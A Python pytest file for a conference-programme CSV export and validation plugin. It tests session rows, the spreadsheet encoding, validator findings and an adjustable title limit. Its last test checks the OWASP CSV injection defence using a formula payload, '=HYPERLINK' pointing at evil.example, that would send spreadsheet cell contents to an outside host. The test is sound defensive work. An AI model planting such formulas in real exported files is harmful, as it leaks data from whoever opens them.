"""The plugin's own tests: a plugin manager of their own, events made in code."""

from __future__ import annotations

import csv
import datetime as dt
import io

import confdocs_glance
import pytest

import confdocs
from confdocs.model import Contribution, Day, Event, Person, Programme, Session, Slot

DAY = dt.date(2024, 3, 12)
LONG = "A session title that goes on and on, " * 5


@pytest.fixture
def host():  # type: ignore[no-untyped-def]
    return confdocs.get_plugin_manager(
        load_entrypoints=False, plugins=[confdocs_glance], strict=True
    )


@pytest.fixture
def event() -> Event:
    return Event(
        id="demo",
        title="Demo",
        start=DAY,
        end=DAY,
        people=(
            Person(id="ana", given_name="Ana", family_name="Lima", position="Prosecutor"),
            Person(id="bo", given_name="Bo", family_name="Li"),
        ),
        programme=Programme(
            (
                Day(
                    DAY,
                    (
                        Slot(
                            start=dt.time(9),
                            title="Opening, with *emphasis*",
                            moderators=("ana",),
                            contributions=(
                                Contribution(people=("ana",)),
                                Contribution(people=("bo",)),
                            ),
                        ),
                        Slot(start=dt.time(10), kind="break"),
                        Slot(
                            start=dt.time(10, 30),
                            end=dt.time(12),
                            parallel=(
                                Session(title=LONG, room="A"),
                                Session(title="Short", room="B", end=dt.time(11, 15)),
                            ),
                        ),
                    ),
                ),
            )
        ),
    )


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_registered_under_its_names(host) -> None:  # type: ignore[no-untyped-def]
    assert "glance" in host.exporters()
    assert "glance" in host.validators()


def test_one_row_per_session(host, event: Event) -> None:  # type: ignore[no-untyped-def]
    [document] = confdocs.build(event, ["glance"], plugins=host).documents
    assert document.filename == "demo.glance.csv"
    table = rows(document.data)
    assert [r["title"] for r in table] == [
        "Opening, with emphasis",
        "Coffee break",
        LONG.strip(),
        "Short",
    ]
    opening = table[0]
    assert (opening["start"], opening["end"], opening["moderators"]) == (
        "09:00",
        "10:00",
        "Ana Lima",
    )
    assert opening["speakers"] == "Ana Lima, Prosecutor | Bo Li"
    assert [r["room"] for r in table[2:]] == ["A", "B"]
    # Each session's own times: the short one ends before its slot.
    assert [(r["start"], r["end"]) for r in table[2:]] == [("10:30", "12:00"), ("10:30", "11:15")]


def test_the_csv_opens_in_a_spreadsheet(host, event: Event) -> None:  # type: ignore[no-untyped-def]
    data = confdocs.build(event, ["glance"], plugins=host).documents[0].data
    assert data.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    assert b"\r\n" in data


def test_findings(host, event: Event) -> None:  # type: ignore[no-untyped-def]
    findings = confdocs.check(event, plugins=host)
    assert [(f.code, f.path) for f in findings] == [
        ("glance.long-title", "programme.days[0].slots[2].parallel[0].title"),
        ("glance.no-position", "programme.days[0].slots[0].contributions[1]"),
    ]
    assert all(f.validator == "glance" for f in findings)
    assert all(f.code in confdocs_glance.GlanceValidator.codes for f in findings)


def test_the_title_limit_can_be_changed(host, event: Event, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setenv("GLANCE_MAX_TITLE", "10")
    codes = [f.code for f in confdocs.check(event, plugins=host)]
    assert codes.count("glance.long-title") == 2  # the opening, too


def test_cells_that_a_spreadsheet_would_run_are_written_as_text(host, event):  # type: ignore[no-untyped-def]
    """OWASP's CSV injection: a title starting with = + - @ is prefixed with a quote."""
    import attrs

    slot = attrs.evolve(
        event.programme.days[0].slots[0], title='=HYPERLINK("https://evil.example/?"&A1,"x")'
    )
    day = attrs.evolve(event.programme.days[0], slots=(slot,))
    evil = attrs.evolve(event, programme=Programme((day,)))
    [document] = confdocs.build(evil, ["glance"], plugins=host).documents
    rows = list(csv.reader(io.StringIO(document.data.decode("utf-8-sig"))))
    assert rows[1][6] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
